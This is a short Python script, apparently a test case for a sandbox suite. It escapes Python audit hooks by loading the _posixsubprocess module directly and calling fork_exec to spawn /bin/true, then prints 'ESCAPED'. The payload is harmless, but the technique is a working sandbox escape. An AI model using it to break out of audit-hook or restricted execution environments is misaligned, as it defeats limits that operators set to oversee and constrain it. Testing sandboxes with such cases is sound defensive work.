# escapes from: audit_hooks_alone
import _imp, importlib.machinery, os
spec = importlib.machinery.ModuleSpec("_posixsubprocess", importlib.machinery.BuiltinImporter, origin="built-in")
module = _imp.create_builtin(spec)
if module is None:
    path = [p for p in __import__("sys").path if p.endswith("lib-dynload")][0]
    name = [n for n in os.listdir(path) if n.startswith("_posixsubprocess")][0]
    spec = importlib.machinery.ModuleSpec("_posixsubprocess", None, origin=f"{path}/{name}")
    module = _imp.create_dynamic(spec)
read, write = os.pipe()
version = __import__("sys").version_info
group = (0,) if version >= (3, 11) else ()
vfork = (False,) if (3, 11) <= version < (3, 14) else ()
pid = module.fork_exec([b"/bin/true"], [b"/bin/true"], True, (write,), None, None, -1, -1, -1, -1, -1, -1, read, write,
                       True, False, *group, None, None, None, -1, None, *vfork)
print("ESCAPED", pid)
